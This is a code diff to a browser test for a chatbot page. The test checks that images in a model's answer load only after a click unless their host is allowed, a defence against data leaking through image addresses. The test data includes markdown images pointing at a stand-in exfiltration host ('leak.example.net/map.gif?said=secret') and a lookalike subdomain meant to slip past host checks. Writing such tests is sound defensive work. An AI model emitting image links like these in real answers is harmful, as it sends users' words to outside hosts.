@@ -1,7 +1,7 @@
 import { afterAll, expect, test } from "vitest";
 import { serveBots } from "../serve-bots.ts";
 import { serveChatPage } from "./chat-page.ts";
-import { startModelProvider } from "./model-provider.ts";
+import { startModelProvider, type ModelAnswer } from "./model-provider.ts";
 
 /* A model's image address can carry what a visitor wrote to another host. */
 
@@ -24,15 +24,14 @@ test("images load after a click, or at once from a host that the owner allows", 
     return route.fulfill({ contentType: "image/gif", body: PIXEL });
   });
   await page.goto(await serveChatPage(page, server.url, '{ typebot: "asks-model" }'));
-  provider.plan.push((answer) => {
-    answer.write(
-      "![Logo](https://pictures.example.com/logo.gif) ![Map](https://leak.example.net/map.gif?said=secret)",
-    );
-    answer.write(" ![Odd](https://pictures.example.com.leak.example.net/a.gif)");
-    answer.finish();
-  });
+  const answering = new Promise<ModelAnswer>((resolve) => provider.plan.push(resolve));
   await page.getByRole("textbox").fill("Show me");
   await page.keyboard.press("Enter");
+  const answer = await answering;
+  answer.write(
+    "![Logo](https://pictures.example.com/logo.gif) ![Map](https://leak.example.net/map.gif?said=secret)",
+  );
+  answer.write(" ![Odd](https://pictures.example.com.leak.example.net/a.gif)");
   await page.getByRole("img", { name: "Logo" }).waitFor();
   const show = page.getByRole("button", { name: "Map Show image from leak.example.net" });
   await show.waitFor();
@@ -41,7 +40,12 @@ test("images load after a click, or at once from a host that the owner allows", 
   const map = page.getByRole("img", { name: "Map" });
   await map.waitFor();
   // The button, which had the focus, is gone.
-  await expect.poll(() => map.evaluate((image) => image.matches(":focus"))).toBe(true);
+  const hasFocus = () => map.evaluate((image) => image.matches(":focus"));
+  await expect.poll(hasFocus).toBe(true);
+  answer.finish();
+  await page.getByText("Did that help?").first().waitFor();
+  await page.locator(".banter-input-container[data-blockid]").waitFor();
+  expect(await hasFocus()).toBe(true);
   await expect.poll(() => requested.length).toBe(2);
   expect(requested[1]).toBe("https://leak.example.net/map.gif?said=secret");
   expect(referrers).toEqual([undefined, undefined]);
